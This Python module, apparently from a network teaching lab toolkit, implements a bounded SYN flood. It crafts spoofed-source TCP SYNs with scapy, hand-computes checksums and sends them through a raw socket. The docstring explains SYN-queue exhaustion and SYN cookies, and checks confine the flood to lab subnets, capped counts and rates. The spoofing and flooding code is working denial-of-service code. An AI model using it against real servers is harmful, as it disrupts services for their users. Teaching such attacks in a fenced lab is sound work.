"""A bounded SYN flood from spoofed lab addresses, fenced inside the lab's subnets.

Client role only: it aims at another flow's server.

What it does, as a student's scapy program would: craft TCP SYNs (RFC 9293 3.5, the first
step of the three-way handshake) with scapy, each from a spoofed source address and a
random port and sequence number, and send them at a fixed rate through a raw socket. The
server answers each with a SYN-ACK to an address nobody uses, so no RST ever comes back
(a host that did not send the SYN resets the SYN-ACK, RFC 9293 3.10.7.3) and every entry
stays half-open (SYN-RECV) in the listener's SYN queue until its SYN-ACK retransmissions
run out. Once that queue is full, a server without SYN cookies drops every new SYN,
legitimate ones too; with cookies (RFC 4987 3.6) it keeps no state and still answers.

The fence, all checked before the raw socket is even opened (exit status 2 and a message
naming the option otherwise), because a program that sends forged packets must never be
able to send them anywhere but the lab:
- the destination and every spoofed source lie in the lab's address plan, the link
  subnets 10.201.i.0/24 (toolkit.netlab.topology.Link.subnet4); IPv4 only;
- no spoofed source is an address a lab node uses (.1 the router's, .2 the host's on
  every link) or a subnet's network or broadcast address;
- the count is at most MAX_COUNT and the rate at most MAX_RATE_PPS (no "until stopped");
- it runs inside a lab host: there is a lab interface (lk-<host>-r) and the kernel's route
  to the destination leaves from a lab address (a connected UDP socket's source address:
  connect() on UDP sends nothing).
"""

from __future__ import annotations

import ipaddress
import random
import socket
import struct
import sys
import time

from . import Role
from .base import run_role

LAB_PLAN = ipaddress.ip_network("10.201.0.0/16")     # topology.Link.subnet4: 10.201.i.0/24
LINK_INDEXES = range(1, 251)                         # topology: at most 250 hosts
USED_HOST_PARTS = (1, 2)                             # .1 router, .2 host (topology.Link.addr)
MAX_COUNT = 10_000
MAX_RATE_PPS = 5_000
MAX_SOURCES = 1024


class Refused(ValueError):
    """The flood would leave the fence; the message names the option."""


def _lab_address(text: str, what: str) -> ipaddress.IPv4Address:
    try:
        ip = ipaddress.ip_address(text)
    except ValueError:
        raise Refused(f"{what} {text!r}: not an IP address") from None
    if ip.version != 4:
        raise Refused(f"{what} {ip}: IPv4 only (the lab's link subnets are 10.201.i.0/24)")
    if ip not in LAB_PLAN or ip.packed[2] not in LINK_INDEXES:
        raise Refused(f"{what} {ip}: outside the lab's subnets (10.201.1.0/24 to "
                      f"10.201.250.0/24); the flood sends only inside the lab")
    if ip.packed[3] in (0, 255):
        raise Refused(f"{what} {ip}: a subnet's network or broadcast address")
    return ip


def parse_sources(text: str) -> list[ipaddress.IPv4Address]:
    """`--sources`: a CIDR (10.201.4.128/27) or a range (10.201.4.100-10.201.4.119) of
    spoofed addresses; each must be a lab address no lab node uses."""
    text = text.strip()
    try:
        if "-" in text:
            lo_t, hi_t = (p.strip() for p in text.split("-", 1))
            lo, hi = ipaddress.IPv4Address(lo_t), ipaddress.IPv4Address(hi_t)
            if hi < lo:
                raise Refused(f"--sources {text}: the range ends before it starts")
            if int(hi) - int(lo) + 1 > MAX_SOURCES:
                raise Refused(f"--sources {text}: more than {MAX_SOURCES} addresses")
            addrs = [ipaddress.IPv4Address(i) for i in range(int(lo), int(hi) + 1)]
        else:
            net = ipaddress.IPv4Network(text, strict=False)
            if net.num_addresses > MAX_SOURCES:
                raise Refused(f"--sources {text}: more than {MAX_SOURCES} addresses")
            addrs = list(net.hosts()) if net.prefixlen < 31 else list(net)
    except ValueError as e:
        if isinstance(e, Refused):
            raise
        raise Refused(f"--sources {text!r}: expected a CIDR such as 10.201.4.128/27 or a "
                      f"range such as 10.201.4.100-10.201.4.119 ({e})") from None
    out = []
    for ip in addrs:
        _lab_address(str(ip), "--sources: address")
        if ip.packed[3] in USED_HOST_PARTS:
            continue                  # the router's and the host's: not spoofed, skipped
        out.append(ip)
    if not out:
        raise Refused(f"--sources {text}: no address left that nobody uses (.1 is the "
                      f"router's and .2 the host's on every link)")
    return out


def plan(dst: str, sources: list[ipaddress.IPv4Address], count: int, rate_pps: float) -> dict:
    """Everything checked that can be checked without the network: the addresses and the
    bounds. Raises Refused; sends nothing, opens nothing."""
    if not isinstance(count, int) or not 1 <= count <= MAX_COUNT:
        raise Refused(f"--count {count}: expected 1 to {MAX_COUNT} packets (a flood here is "
                      f"always bounded)")
    if not (rate_pps == rate_pps) or not 0 < rate_pps <= MAX_RATE_PPS:
        raise Refused(f"--rate {rate_pps:g}: expected above 0 and at most {MAX_RATE_PPS} "
                      f"packets per second")
    target = _lab_address(dst, "destination")
    if target.packed[3] != 2:
        raise Refused(f"destination {target}: not a lab host (a host is .2 on its link)")
    for ip in sources:
        _lab_address(str(ip), "--sources: address")
        if ip.packed[3] in USED_HOST_PARTS:
            raise Refused(f"--sources: {ip} is a lab node's own address; spoofed sources "
                          f"must be addresses nobody uses")
    return {"destination": str(target), "sources": [str(s) for s in sources],
            "count": count, "rate_pps": float(rate_pps)}


def check_inside_lab(dst: str) -> str:
    """The host is a lab host and its route to dst leaves from a lab address; returns that
    address. connect() on a UDP socket only picks the route: nothing is sent."""
    names = [n for _, n in socket.if_nameindex()]
    if not any(n.startswith("lk-") and n.endswith("-r") for n in names):
        raise Refused("not inside a lab host (no lk-<host>-r interface here): the flood "
                      "runs only in a lab's namespace, e.g. from `labkit run`")
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect((dst, 9))
        src = probe.getsockname()[0]
    except OSError as e:
        raise Refused(f"destination {dst}: no route from this host ({e.strerror})") from None
    finally:
        probe.close()
    if ipaddress.ip_address(src) not in LAB_PLAN:
        raise Refused(f"destination {dst}: the route leaves from {src}, not a lab address")
    return src


def default_sources(own: str) -> str:
    """Addresses .128 to .159 of the host's own link subnet: nobody uses them, and the
    router's route back to them is the link they came in on (reverse-path filters pass)."""
    net = ipaddress.IPv4Network(f"{own}/24", strict=False)
    return f"{net[128]}-{net[159]}"


def _syn_template(dst: str, dport: int) -> bytes:
    from scapy.layers.inet import IP, TCP
    # a SYN as Linux would send one (MSS option), so the server treats it like any client's
    return bytes(IP(src="0.0.0.0", dst=dst, ttl=64) /
                 TCP(sport=1024, dport=dport, flags="S", seq=0, window=64240,
                     options=[("MSS", 1460)]))


def _checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071): one's complement of the one's complement sum."""
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def _syn_bytes(template: bytes, src: str, sport: int, seq: int) -> bytes:
    """scapy built the SYN once; each copy gets its own source, port and sequence number,
    and the checksums that cover them (the TCP one over the pseudo-header, RFC 9293
    3.1; the IP header's the kernel fills in for a raw socket with IP_HDRINCL, but it is
    set here too, so the bytes are a valid packet on their own)."""
    pkt = bytearray(template)
    ihl = (pkt[0] & 0x0F) * 4
    pkt[12:16] = socket.inet_aton(src)
    pkt[10:12] = b"\0\0"
    pkt[10:12] = struct.pack("!H", _checksum(bytes(pkt[:ihl])))
    tcp = pkt[ihl:]
    struct.pack_into("!H", tcp, 0, sport)
    struct.pack_into("!I", tcp, 4, seq)
    tcp[16:18] = b"\0\0"
    pseudo = pkt[12:20] + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    struct.pack_into("!H", tcp, 16, _checksum(bytes(pseudo + tcp)))
    pkt[ihl:] = tcp
    return bytes(pkt)


def _flood(args, report, stop) -> int:
    try:
        sources_text = args.sources
        if sources_text is None:
            p = plan(args.host, [], args.count, args.rate)      # bounds and destination
            sources_text = default_sources(check_inside_lab(p["destination"]))
        p = plan(args.host, parse_sources(sources_text), args.count, args.rate)
        own = check_inside_lab(p["destination"])
    except Refused as e:
        report.event("refused", reason=str(e))
        print(f"labkit scenario syn-flood client: {e}", file=sys.stderr)
        return 2
    rng = random.Random(args.seed)
    srcs = p["sources"]
    # crafted before the first is sent, so the rate is the socket's, not scapy's
    template = _syn_template(p["destination"], args.port)
    packets = [_syn_bytes(template, srcs[i % len(srcs)], rng.randrange(1024, 65536),
                          rng.getrandbits(32)) for i in range(p["count"])]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    report.event("flood started", destination=p["destination"], port=args.port,
                 count=p["count"], rate_pps=p["rate_pps"], sources=len(srcs), host=own)
    sent = errors = 0
    t0 = time.monotonic()
    try:
        for i, pkt in enumerate(packets):
            if stop:
                break
            due = t0 + i / p["rate_pps"]
            if (wait := due - time.monotonic()) > 0:
                if stop.wait(wait):
                    break
            try:
                raw.sendto(pkt, (p["destination"], 0))
                sent += 1
            except OSError:
                errors += 1
    finally:
        raw.close()
    secs = time.monotonic() - t0
    report.event("flood ended", sent=sent)
    report.end(packets_sent=sent, send_errors=errors, destination=p["destination"],
               port=args.port, sources=len(srcs), first_source=srcs[0], last_source=srcs[-1],
               rate_pps_asked=p["rate_pps"], rate_pps=round(sent / secs, 1) if secs else None,
               flood_duration_s=round(secs, 6))
    return 0


def _client_args(p) -> None:
    p.add_argument("--count", type=int, default=300,
                   help=f"SYNs to send (default 300, at most {MAX_COUNT})")
    p.add_argument("--rate", type=float, default=1000.0,
                   help=f"packets per second (default 1000, at most {MAX_RATE_PPS})")
    p.add_argument("--sources", default=None,
                   help="spoofed source addresses, a CIDR or a range inside the lab's "
                        "subnets (default .128-.159 of this host's own link subnet: "
                        "addresses nobody uses)")
    p.add_argument("--seed", type=int, default=1, help="source ports and sequence numbers")


def _run_client(args) -> int:
    if args.proto != "tcp":
        print("labkit scenario syn-flood client: --proto: a SYN flood is TCP", file=sys.stderr)
        return 2
    if args.cport is not None:
        print("labkit scenario syn-flood client: --cport: every spoofed SYN has its own "
              "random source port (--seed picks them); the flood has no source port to fix",
              file=sys.stderr)
        return 2
    return run_role("syn-flood", "client", args, lambda rep, stop: _flood(args, rep, stop))


ROLES = {"client": Role("send a bounded SYN flood from spoofed lab addresses to a lab "
                        "server (no server role: it aims at another flow's server)",
                        _client_args, _run_client, takes_cport=False)}
